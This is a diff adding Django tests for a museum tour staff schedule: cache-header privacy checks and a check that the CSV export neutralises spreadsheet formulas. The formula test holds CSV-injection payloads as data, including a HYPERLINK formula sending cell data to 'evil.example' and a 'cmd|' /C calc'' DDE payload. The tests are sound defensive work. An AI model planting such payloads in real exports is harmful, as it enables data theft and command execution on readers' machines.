@@ -8,6 +8,8 @@ import csv
 import io
 
 import icalendar
+from datetime import date
+
 from django.core.management import call_command
 import pytest
 from django.contrib.auth.models import Group
@@ -65,6 +67,24 @@ def test_springfield_staff_see_springfield_logistics_not_columbias(client, tour,
     assert response["Content-Disposition"] == (
         f'attachment; filename="venue-schedule-park-central-branch-library-{timezone.localdate().isoformat()}.csv"'
     )
+
+
+def cache_directives(response):
+    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part.strip()}
+
+
+def test_schedule_csv_and_feed_are_private_for_every_cache(client, tour, springfield_staff):
+    client.force_login(springfield_staff)
+    client.post(reverse("exhibit:staff_feed_create"))
+    feed_url = springfield_staff.schedule_feed_tokens.get().get_absolute_url()
+    for url in (reverse("exhibit:staff_schedule"), reverse("exhibit:staff_schedule_csv"), feed_url):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert {"private", "no-store"} <= cache_directives(response), url
+        assert "public" not in cache_directives(response), url
+    client.logout()
+    # The login redirect, too, is not kept by a shared cache.
+    assert {"private", "no-store"} <= cache_directives(client.get(reverse("exhibit:staff_schedule")))
 
 
 def test_schedule_needs_a_login(client, tour):
@@ -171,3 +191,26 @@ def test_staff_without_a_venue_see_an_explanation_not_other_venues(client, tour,
     assert "not linked to a venue" in html
     for value in logistics_texts(SPRINGFIELD_LOGISTICS) + logistics_texts(COLUMBIA_LOGISTICS):
         assert value not in html
+
+
+def test_staff_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_shown_as_text(
+    client, make_exhibition, springfield, springfield_staff
+):
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "speakers": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    others = ["+1+2", "-2+3", "\tTAB", "\rCR"]
+    make_exhibition(title="Formulas", stops=[(springfield, date(2014, 3, 7), date(2014, 3, 29), {}, [
+        {"kind": "gallery_talk", "date": date(2014, 3, 10), **hostile},
+        *({"kind": "artist_talk", "date": date(2014, 3, 11 + n), "title": title} for n, title in enumerate(others)),
+    ])])
+    client.force_login(springfield_staff)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("exhibit:staff_schedule_csv")).content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + hostile["title"] in cells
+    assert "'" + hostile["speakers"] in cells
+    for title in others:
+        assert "'" + title in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "Exhibition opens" in cells  # ordinary text stays as it was
